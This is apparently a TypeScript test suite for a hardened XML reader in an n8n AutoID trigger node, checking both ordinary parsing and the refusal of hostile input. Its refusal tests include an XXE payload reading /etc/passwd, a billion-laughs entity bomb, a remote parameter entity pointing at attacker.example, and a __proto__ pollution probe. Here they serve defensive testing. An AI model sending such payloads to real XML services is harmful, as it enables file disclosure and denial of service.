/** The trigger's own XML reader: names keep their case, nothing is ever expanded, depth is bounded. */
import { parseXml } from '../../nodes/AutoIdTrigger/autoIdXml';
import { PROMPT_RESPONSES, TAGS, autoIdPayload, toXml } from '../support/autoid';

const ok = (xml: string, maxDepth?: number) => {
	const result = parseXml(xml, maxDepth === undefined ? {} : { maxDepth });
	if (!result.ok) throw new Error(`expected to parse, got ${result.reason}: ${result.message}`);
	return result;
};

describe('reading AutoID XML', () => {
	test('a recommended-template call end: every field, nested prompt responses and tags, names as sent', () => {
		const payload = autoIdPayload('call_end');
		const result = ok(toXml(payload));
		expect(result.root).toBe('call');
		expect(result.value).toEqual({ ...payload, prompt_responses: { prompt_response: PROMPT_RESPONSES } });
		const value = result.value as Record<string, unknown>;
		expect(value.prompt_responses).toEqual({ prompt_response: PROMPT_RESPONSES });
		expect(value.tags).toEqual(TAGS);
	});

	test('element names keep their case (n8n\'s own parser would lower-case them)', () => {
		const result = ok('<Lead><CallID>093cc03c</CallID><Caller><FirstName>Freddy</FirstName><LastName>Krueger</LastName></Caller><Tags><Region>south</Region></Tags></Lead>');
		expect(result).toEqual({
			ok: true,
			root: 'Lead',
			value: { CallID: '093cc03c', Caller: { FirstName: 'Freddy', LastName: 'Krueger' }, Tags: { Region: 'south' } },
		});
	});

	test('one prompt response stays an object; several become an array in document order', () => {
		const one = ok('<call><prompt_responses><prompt_response><question>one</question><response>1</response></prompt_response></prompt_responses></call>');
		expect(one.value).toEqual({ prompt_responses: { prompt_response: { question: 'one', response: '1' } } });
		const two = ok('<call><r>1</r><r>2</r><x>a</x><r>3</r></call>');
		expect(two.value).toEqual({ r: ['1', '2', '3'], x: 'a' });
	});

	test('empty and self-closing elements are empty strings; whitespace between elements is dropped, text kept as sent', () => {
		const result = ok('<call>\n  <dialstatus/>\n  <call_end_time></call_end_time>\n  <ani_full_name> Freddy Krueger </ani_full_name>\n</call>');
		expect(result.value).toEqual({ dialstatus: '', call_end_time: '', ani_full_name: ' Freddy Krueger ' });
	});

	test('an element with only text as root is a string', () => {
		expect(ok('<callid>abc</callid>')).toEqual({ ok: true, root: 'callid', value: 'abc' });
	});

	test('attributes go under $, text beside them or beside children under _', () => {
		const result = ok('<call version="2" source=\'autoid\'><ani type="mobile">7776734736</ani><note>hello <b>world</b></note></call>');
		expect(result.value).toEqual({
			$: { version: '2', source: 'autoid' },
			ani: { $: { type: 'mobile' }, _: '7776734736' },
			note: { b: 'world', _: 'hello' },
		});
	});

	test('predefined entities, character references, CDATA and comments', () => {
		const result = ok('<?xml version="1.0"?><!-- AutoID --><call><name>Tom &amp; Jerry &lt;3 &#65;&#x42;</name><raw><![CDATA[<not> & markup]]></raw><!-- inside --><q>&quot;&apos;</q></call><!-- after -->');
		expect(result.value).toEqual({ name: 'Tom & Jerry <3 AB', raw: '<not> & markup', q: '"\'' });
	});

	test('a byte order mark, CRLF line endings and a namespace prefix are fine', () => {
		const result = ok('\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<a:call xmlns:a="urn:x">\r\n<a:ani>1</a:ani>\r\n</a:call>\r\n');
		expect(result).toEqual({ ok: true, root: 'a:call', value: { $: { 'xmlns:a': 'urn:x' }, 'a:ani': '1' } });
	});

	test('__proto__ and constructor are plain fields, no prototype is touched', () => {
		const result = ok('<call><__proto__><polluted>yes</polluted></__proto__><constructor>x</constructor></call>');
		const value = result.value as Record<string, unknown>;
		expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
		expect(Object.keys(value)).toEqual(['__proto__', 'constructor']);
		expect(JSON.parse(JSON.stringify(value))).toEqual(JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":"x"}'));
	});
});

describe('XML the trigger refuses', () => {
	test.each([
		['a DOCTYPE', '<!DOCTYPE call><call><a>1</a></call>'],
		['a DOCTYPE in lower case', '<!doctype call><call/>'],
		['an internal entity (billion laughs)', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'],
		['an external entity (XXE)', '<!DOCTYPE call [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><call><ani>&xxe;</ani></call>'],
		['a parameter entity', '<!DOCTYPE call [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><call/>'],
		['a DOCTYPE after the root', '<call/><!DOCTYPE call>'],
	])('%s → refused as a DOCTYPE, nothing expanded', (_name, xml) => {
		expect(parseXml(xml)).toEqual({ ok: false, reason: 'doctype', message: 'XML with a DOCTYPE is not accepted (no DTDs or entities)' });
	});

	test('an entity declaration without a DOCTYPE is refused as such', () => {
		expect(parseXml('<call><!ENTITY x "y"></call>')).toEqual({
			ok: false,
			reason: 'entity',
			message: 'XML with entity declarations is not accepted',
		});
	});

	test('an undefined entity reference is refused, not expanded or kept', () => {
		expect(parseXml('<call><ani>&xxe;</ani></call>')).toMatchObject({ ok: false, reason: 'entity' });
		expect(parseXml('<call a="&nbsp;"/>')).toMatchObject({ ok: false, reason: 'entity' });
	});

	test('nesting is bounded: 32 levels pass, 33 are refused; deep input does not exhaust the stack', () => {
		const nested = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;
		expect(parseXml(nested(32)).ok).toBe(true);
		expect(parseXml(nested(33))).toEqual({ ok: false, reason: 'depth', message: 'The XML is nested more than 32 levels deep' });
		expect(parseXml(nested(100000))).toMatchObject({ ok: false, reason: 'depth' });
		expect(parseXml(nested(5), { maxDepth: 4 })).toMatchObject({ ok: false, reason: 'depth' });
	});

	test.each([
		['an empty document', ''],
		['text only', 'hello'],
		['an unclosed element', '<call><ani>1</ani>'],
		['a mismatched end tag', '<call><ani>1</ANI></call>'],
		['two root elements', '<call/><call/>'],
		['text after the root', '<call/>x'],
		['a bare ampersand', '<call>Tom & Jerry</call>'],
		['an unquoted attribute', '<call a=1/>'],
		['a repeated attribute', '<call a="1" a="2"/>'],
		['"<" in an attribute', '<call a="<"/>'],
		['an unterminated comment', '<call><!-- x</call>'],
		['an unterminated CDATA section', '<call><![CDATA[x</call>'],
		['a late XML declaration', '<call/><?xml version="1.0"?>'],
		['an invalid character reference', '<call>&#0;</call>'],
		['an invalid name', '<1call/>'],
		['a CDATA section outside the root', '<![CDATA[x]]><call/>'],
		['an unknown declaration', '<!ELEMENTS x><call/>'],
		['attributes without space', '<call a="1"b="2"/>'],
	])('%s is malformed', (_name, xml) => {
		expect(parseXml(xml)).toMatchObject({ ok: false, reason: 'malformed' });
	});
});
